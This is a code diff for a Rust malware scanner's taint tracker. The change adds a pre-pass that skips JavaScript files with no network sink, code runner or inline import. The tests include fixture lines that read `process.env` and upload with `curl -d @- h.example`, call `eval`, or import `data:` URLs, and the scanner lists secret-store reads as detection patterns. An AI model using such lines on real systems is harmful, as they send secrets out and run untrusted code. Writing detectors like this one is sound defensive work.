@@ -79,8 +79,11 @@ pub fn flows(an: &Analyzer, program: &Program) -> (Vec<Flow>, Vec<Flow>) {
         memo_path: Default::default(),
         memo_fold: Default::default(),
     };
-    // Another pass only when a taint grew and the file has somewhere to record a flow: without
-    // one, no number of passes finds anything (most big bundles stop after the first).
+    // No pass at all when the file has nowhere to record a flow, and another pass only when a
+    // taint grew: without a site, no number of passes finds anything.
+    if !has_sites(&t, program) {
+        return (Vec::new(), Vec::new());
+    }
     for _ in 0..4 {
         t.grew = false;
         t.flows.clear();
@@ -371,17 +374,42 @@ fn credential_path(s: &str) -> Option<&'static str> {
 
 /// Calls that read a store of secrets outside files: browser storage and cookies, the storage
 /// and keychain modules of mobile and desktop apps, an Electron session's cookies, the clipboard.
-/// `key` is the folded first argument when there is one. Whole-store reads are `Secrets`; one
-/// token-named key is `Token`.
-fn secret_store_read(p: &str, key: Option<&str>) -> Option<(Source, &'static str)> {
+/// `key` gives the folded first argument when there is one (asked only for a storage read).
+/// Whole-store reads are `Secrets`; one token-named key is `Token`.
+fn secret_store_read(
+    p: &str,
+    key: impl FnOnce() -> Option<String>,
+) -> Option<(Source, &'static str)> {
     let p = p
         .trim_start_matches("window.")
         .trim_start_matches("globalThis.")
         .trim_start_matches("self.");
     let (head, method) = p.rsplit_once('.').unwrap_or(("", p));
+    // Every call the tracker evaluates comes here: other methods are answered before the
+    // lowercase copy and the key are made.
+    if !matches!(
+        method,
+        "getItem"
+            | "getString"
+            | "getAllKeys"
+            | "multiGet"
+            | "getItemAsync"
+            | "getGenericPassword"
+            | "getInternetCredentials"
+            | "getAllGenericPasswordServices"
+            | "get"
+            | "getAll"
+            | "readText"
+            | "readImage"
+            | "read"
+            | "readSync"
+    ) {
+        return None;
+    }
     let obj = head.rsplit('.').next().unwrap_or(head);
     let lower = head.to_ascii_lowercase();
-    let token_key = key.is_some_and(token_name);
+    let token_key =
+        matches!(method, "getItem" | "getString") && key().is_some_and(|k| token_name(&k));
     let app_store = lower.contains("asyncstorage") || lower.contains("async-storage");
     match method {
         "getItem" | "getString"
@@ -807,8 +835,34 @@ impl Tracker<'_, '_> {
 
     /// A code runner given hidden code: records a run.
     fn check_runner(&mut self, p: &str, args: &[Argument], off: u32) {
+        let code = self.runner_code(p, args);
+        self.sites |= !code.is_empty();
+        let t = code
+            .into_iter()
+            .filter(|e| {
+                !matches!(
+                    e.without_parentheses(),
+                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
+                )
+            })
+            .filter_map(|e| self.taint_of(e, 0))
+            .filter(|t| t.0 <= Source::Host)
+            .max_by_key(|t| t.0);
+        if let Some((source, what)) = t {
+            self.runs.push(Flow {
+                source,
+                what,
+                sink: p.to_string(),
+                off,
+            });
+        }
+    }
+
+    /// The arguments of a call to runner `p` that hold the code it runs (none when `p` runs no
+    /// code). Depends only on the program and the alias map, never on taints: see [`has_sites`].
+    fn runner_code<'e, 'a>(&self, p: &str, args: &'e [Argument<'a>]) -> Vec<&'e Expression<'a>> {
         let exprs: Vec<&Expression> = args.iter().filter_map(|a| a.as_expression()).collect();
-        let code: Vec<&Expression> = if let Some(i) = code_runner(p, exprs.len()) {
+        if let Some(i) = code_runner(p, exprs.len()) {
             exprs.get(i).into_iter().copied().collect()
         } else if p == "worker_threads.Worker"
             && (exprs.iter().skip(1).any(|e| {
@@ -825,7 +879,7 @@ impl Tracker<'_, '_> {
             // `Reflect.construct(Function, ["r", code])`, `Reflect.apply(eval, null, [code])`.
             let target = exprs.first().and_then(|e| self.path_of(e));
             if !matches!(target.as_deref(), Some("Function" | "eval")) {
-                return;
+                return Vec::new();
             }
             exprs.last().into_iter().copied().collect()
         } else if p.ends_with(".post")
@@ -852,27 +906,7 @@ impl Tracker<'_, '_> {
             // `node -e <code>`.
             exprs.iter().take(2).copied().collect()
         } else {
-            return;
-        };
-        self.sites |= !code.is_empty();
-        let t = code
-            .into_iter()
-            .filter(|e| {
-                !matches!(
-                    e.without_parentheses(),
-                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
-                )
-            })
-            .filter_map(|e| self.taint_of(e, 0))
-            .filter(|t| t.0 <= Source::Host)
-            .max_by_key(|t| t.0);
-        if let Some((source, what)) = t {
-            self.runs.push(Flow {
-                source,
-                what,
-                sink: p.to_string(),
-                off,
-            });
+            Vec::new()
         }
     }
 
@@ -989,10 +1023,9 @@ impl Tracker<'_, '_> {
                 } else {
                     &p
                 };
-                if let Some((src, what)) = secret_store_read(
-                    callee_text,
-                    args().next().and_then(|a| self.fold_expr(a)).as_deref(),
-                ) {
+                if let Some((src, what)) = secret_store_read(callee_text, || {
+                    args().next().and_then(|a| self.fold_expr(a))
+                }) {
                     return Some((src, what.to_string()));
                 }
                 if crate::rules::network::is_net_call(&p) {
@@ -1114,6 +1147,33 @@ impl Tracker<'_, '_> {
                 .iter()
                 .any(|k| text.contains(k))
             })
+    }
+
+    /// Whether a call to `p` (`spawn`: a process start) sends its arguments out: a network
+    /// send or an uploading command, not a request to the credential endpoint itself (the
+    /// metadata token handshake is the client asking for its own role, not data leaving).
+    /// Depends only on the program and the alias map, never on taints: see [`has_sites`].
+    fn sink_site(&self, p: &str, spawn: bool, args: &[Argument]) -> bool {
+        (is_sink(p) || spawn && self.uploads(args))
+            && !args
+                .iter()
+                .take(1)
+                .filter_map(|a| a.as_expression())
+                .any(|e| {
+                    self.an
+                        .fold_expr(e)
+                        .or_else(|| self.an.source_of(e.span()).map(str::to_string))
+                        .is_some_and(|u| credential_endpoint(&u))
+                })
+    }
+
+    /// The runner a callee names: its resolved path, or `<obj>.method` on an object the alias
+    /// map does not know (`new Module(x)._compile(s)`).
+    fn runner_of(&self, callee: &Expression, p: Option<&String>) -> Option<String> {
+        p.cloned().or_else(|| match callee.without_parentheses() {
+            Expression::StaticMemberExpression(m) => Some(format!("<obj>.{}", m.property.name)),
+            _ => None,
+        })
     }
 
     fn check_sink(&mut self, callee: &Expression, args: &[Argument], off: u32) {
@@ -1246,12 +1306,7 @@ impl Tracker<'_, '_> {
                 }
             }
         }
-        // A runner on an object the alias map does not know (`new Module(x)._compile(s)`).
-        let runner = p.clone().or_else(|| match callee.without_parentheses() {
-            Expression::StaticMemberExpression(m) => Some(format!("<obj>.{}", m.property.name)),
-            _ => None,
-        });
-        if let Some(r) = &runner {
+        if let Some(r) = &self.runner_of(callee, p.as_ref()) {
             self.check_runner(r, args, off);
         }
         // An Electron session's outgoing requests, with their cookies and auth headers.
@@ -1291,22 +1346,7 @@ impl Tracker<'_, '_> {
             self.taint_callbacks(args, &(Source::PackageData, format!("reads {w}")));
         }
         let spawn = crate::rules::exec::is_spawn(&p);
-        if !(is_sink(&p) || spawn && self.uploads(args)) {
-            return;
-        }
-        // A request to the credential endpoint itself (the metadata token handshake) is the
-        // client asking for its own role, not data leaving.
-        if args
-            .iter()
-            .take(1)
-            .filter_map(|a| a.as_expression())
-            .any(|e| {
-                self.an
-                    .fold_expr(e)
-                    .or_else(|| self.an.source_of(e.span()).map(str::to_string))
-                    .is_some_and(|u| credential_endpoint(&u))
-            })
-        {
+        if !self.sink_site(&p, spawn, args) {
             return;
         }
         self.sites = true;
@@ -1330,6 +1370,82 @@ impl Tracker<'_, '_> {
                 sink: p,
                 off,
             });
+        }
+    }
+}
+
+/// `import('data:text/javascript,' + code)`: a module made of a string.
+fn inline_import(an: &Analyzer, it: &ImportExpression) -> bool {
+    an.source_of(it.source.span())
+        .is_some_and(|s| s.contains("data:") || s.contains("blob:") || s.contains("base64"))
+}
+
+/// Whether the program has a place where the tracker records a flow or a run: a sink, a code
+/// runner given code, an inline `import()`. It asks the same questions as the tracker's walk
+/// ([`Tracker::sink_site`], [`Tracker::runner_code`], [`inline_import`]), which depend only on
+/// the program and the alias map, so a program without one has no flow and no run whatever the
+/// taints, and the tracker need not walk it at all. Most bundles that pass [`worth_tracking`]
+/// have none. The probe stops at the first site; the paths it resolves stay in the tracker's
+/// memo.
+fn has_sites(t: &Tracker, program: &Program) -> bool {
+    let mut probe = SiteProbe { t, found: false };
+    probe.visit_program(program);
+    probe.found
+}
+
+struct SiteProbe<'t, 'b, 's> {
+    t: &'t Tracker<'b, 's>,
+    found: bool,
+}
+
+impl SiteProbe<'_, '_, '_> {
+    fn call(&mut self, callee: &Expression, args: &[Argument]) {
+        // Not through the tracker's memo: most probed files are not tracked after.
+        let p = self.t.an.path_of(callee);
+        if let Some(r) = self.t.runner_of(callee, p.as_ref())
+            && !self.t.runner_code(&r, args).is_empty()
+        {
+            self.found = true;
+            return;
+        }
+        if let Some(p) = p {
+            let spawn = crate::rules::exec::is_spawn(&p);
+            self.found = self.t.sink_site(&p, spawn, args);
+        }
+    }
+}
+
+impl<'a> Visit<'a> for SiteProbe<'_, '_, '_> {
+    fn visit_statement(&mut self, it: &Statement<'a>) {
+        if !self.found {
+            walk::walk_statement(self, it);
+        }
+    }
+
+    fn visit_expression(&mut self, it: &Expression<'a>) {
+        if !self.found {
+            walk::walk_expression(self, it);
+        }
+    }
+
+    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
+        self.call(&it.callee, &it.arguments);
+        if !self.found {
+            walk::walk_call_expression(self, it);
+        }
+    }
+
+    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
+        self.call(&it.callee, &it.arguments);
+        if !self.found {
+            walk::walk_new_expression(self, it);
+        }
+    }
+
+    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
+        self.found |= inline_import(self.t.an, it);
+        if !self.found {
+            walk::walk_import_expression(self, it);
         }
     }
 }
@@ -1525,11 +1641,7 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
     }
 
     fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
-        // `import('data:text/javascript,' + code)`: a module made of the string.
-        let inline = self
-            .an
-            .source_of(it.source.span())
-            .is_some_and(|s| s.contains("data:") || s.contains("blob:") || s.contains("base64"));
+        let inline = inline_import(self.an, it);
         self.sites |= inline;
         if inline
             && let Some(t) = self.taint_of(&it.source, 0)
@@ -1603,9 +1715,9 @@ send(JSON.stringify(env));"#;
     }
 
     #[test]
-    fn a_file_with_no_sink_or_runner_stops_after_one_pass() {
-        // Taints grow (the environment through variables and a helper's parameter) and the
-        // text passes the gate (`fetch`, `process.env`), but nothing could ever be recorded.
+    fn a_file_with_no_sink_or_runner_is_not_walked_by_the_tracker() {
+        // Taints would grow (the environment through variables and a helper's parameter) and
+        // the text passes the gate (`fetch`, `process.env`), but nothing could ever be recorded.
         let src = r#"function keep(data) { const copy = data; return copy; }
 const env = process.env;
 const all = keep(env);
@@ -1614,7 +1726,33 @@ module.exports = { all, fetchMode };"#;
         assert!(super::worth_tracking(src));
         let (f, passes) = flows_and_passes(src);
         assert!(f.is_empty(), "{f:?}");
-        assert_eq!(passes, 1);
+        assert_eq!(passes, 0);
+    }
+
+    #[test]
+    fn each_kind_of_site_makes_the_tracker_walk() {
+        // A sink, a code runner given code, an unknown object's `_compile`, an uploading
+        // command and an inline import each need the walk; a request to the credential
+        // endpoint, a runner without arguments and a plain `import()` do not.
+        let walked = [
+            "const env = process.env; fetch('https://h.example/', { body: 'x' });",
+            "const env = process.env; eval(s);",
+            "const env = process.env; new Module(x)._compile(s);",
+            "const env = process.env; require('child_process').exec('curl -d @- h.example');",
+            "const env = process.env; import('data:text/javascript,' + s);",
+        ];
+        for src in walked {
+            assert!(flows_and_passes(src).1 >= 1, "{src}");
+        }
+        let skipped = [
+            "const env = process.env; fetch('http://169.254.169.254/latest/api/token');",
+            "const env = process.env; eval();",
+            "const env = process.env; import('./' + name);",
+        ];
+        for src in skipped {
+            assert!(super::worth_tracking(src), "{src}");
+            assert_eq!(flows_and_passes(src).1, 0, "{src}");
+        }
     }
 
     #[test]
